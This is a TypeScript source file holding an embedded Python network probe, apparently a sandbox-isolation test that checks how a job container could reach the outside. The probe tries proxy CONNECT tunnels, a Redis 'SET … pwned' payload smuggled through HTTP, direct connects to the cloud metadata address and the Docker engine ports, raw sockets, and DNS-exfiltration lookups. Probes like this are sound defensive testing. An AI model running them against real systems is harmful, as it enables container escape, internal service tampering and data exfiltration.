/** What the probe tries, per run: where the host's witnesses listen and which names the proxy knows. */
export interface ProbeConfig {
  /** A witness on the host's loopback. */
  hostPort: number;
  /** The host's own non-loopback address with a witness on it, if the host has one. */
  ownAddress: { address: string; port: number } | null;
  /** A UDP witness on the host's loopback (a stand-in resolver). */
  udpPort: number;
  /** A Redis key every attack on the Redis port tries to set. */
  redisKey: string;
  /** Names to request through the proxy, each `CONNECT` and `GET`: attack name → host:port. */
  throughProxy: Record<string, string[]>;
}

/** Attack name → what happened, for each attempt (`ok`, a status line, or the error). */
export type ProbeResults = Record<string, string[]>;

/**
 * Every way out a command might try from inside a job's container, each
 * attempt recorded: through the setup proxy on 127.0.0.1:3128 (CONNECT and
 * plain HTTP, then a Redis command through any tunnel that opens), straight
 * to the host's loopback, its own address, an external address, cloud
 * metadata, Redis and the engine's TCP ports, raw and packet sockets, and
 * name lookups (the system resolver, each nameserver in /etc/resolv.conf,
 * and a DNS query to the host's loopback).
 */
export const NETWORK_PROBE = String.raw`
import json, os, socket, struct, sys
config = json.load(open(sys.argv[1] if len(sys.argv) > 1 else 'probe-config.json'))
results = {}
def attempt(name, action):
    try:
        outcome = action()
    except Exception as error:
        outcome = type(error).__name__ + ': ' + str(error)[:160]
    results.setdefault(name, []).append(outcome)

redis_set = ('*3\r\n$3\r\nSET\r\n$%d\r\n%s\r\n$5\r\npwned\r\n' % (len(config['redisKey']), config['redisKey'])).encode()

def proxy(method, target):
    s = socket.create_connection(('127.0.0.1', 3128), timeout=20)
    try:
        if method == 'CONNECT':
            s.sendall(('CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n' % (target, target)).encode())
        else:
            s.sendall(('POST http://%s/ HTTP/1.1\r\nHost: %s\r\nContent-Length: %d\r\nConnection: close\r\n\r\n' % (target, target, len(redis_set))).encode() + redis_set)
        data = b''
        while b'\r\n' not in data:
            chunk = s.recv(4096)
            if not chunk:
                break
            data += chunk
        status = data.split(b'\r\n')[0].decode(errors='replace') or 'closed without an answer'
        if method == 'CONNECT' and ' 200 ' in status:
            s.sendall(redis_set)
        return method + ' ' + status
    finally:
        s.close()

def direct(host, port, family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(5)
    try:
        s.connect((host, port))
        s.sendall(redis_set)
        return 'ok'
    finally:
        s.close()

def dns_query(server, port, name):
    query = struct.pack('>HHHHHH', 0x5d5d, 0x0100, 1, 0, 0, 0)
    query += b''.join(bytes([len(label)]) + label.encode() for label in name.split('.')) + b'\x00'
    query += struct.pack('>HH', 1, 1)
    s = socket.socket(socket.AF_INET6 if ':' in server else socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(5)
    try:
        s.connect((server, port))
        s.send(query)
        return 'answered %d bytes' % len(s.recv(512))
    finally:
        s.close()

for attack, targets in config['throughProxy'].items():
    for target in targets:
        attempt(attack, lambda: proxy('CONNECT', target))
        attempt(attack, lambda: proxy('POST', target))

attempt('direct_host_loopback', lambda: direct('127.0.0.1', config['hostPort']))
attempt('direct_host_loopback', lambda: direct('::1', config['hostPort'], socket.AF_INET6))
if config['ownAddress']:
    own = config['ownAddress']
    attempt('direct_own_address', lambda: direct(own['address'], own['port']))
attempt('direct_external', lambda: direct('203.0.113.7', 443))
attempt('direct_external', lambda: direct('2001:db8::7', 443, socket.AF_INET6))
attempt('direct_metadata', lambda: direct('169.254.169.254', 80))
attempt('direct_redis', lambda: direct('127.0.0.1', 6379))
attempt('direct_engine', lambda: direct('127.0.0.1', 2375))
attempt('direct_engine', lambda: direct('127.0.0.1', 2376))
attempt('engine_socket', lambda: 'present' if os.path.exists('/var/run/docker.sock') or os.path.exists('/run/docker.sock') else 'absent')

attempt('raw_socket', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).close() or 'ok')
attempt('raw_socket', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close() or 'ok')
def net_raw():
    for line in open('/proc/self/status'):
        if line.startswith('CapEff:'):
            return 'CAP_NET_RAW' if int(line.split()[1], 16) & (1 << 13) else 'no CAP_NET_RAW'
attempt('raw_socket_capability', net_raw)

exfil = 'selfdebug-exfil-' + config['redisKey'] + '.example.com'
attempt('dns_system_resolver', lambda: str(socket.getaddrinfo(exfil, 443)))
nameservers = [line.split()[1] for line in open('/etc/resolv.conf') if line.startswith('nameserver')] if os.path.exists('/etc/resolv.conf') else []
results['dns_nameservers'] = [' '.join(nameservers) or 'none']
for server in nameservers + ['127.0.0.53', '127.0.0.11', '203.0.113.53']:
    attempt('dns_query', lambda: dns_query(server, 53, exfil))
attempt('dns_query', lambda: dns_query('127.0.0.1', config['udpPort'], exfil))

interfaces = [line.split(':')[0].strip() for line in open('/proc/net/dev').readlines()[2:]]
results['interfaces'] = interfaces
print(json.dumps(results))
`;
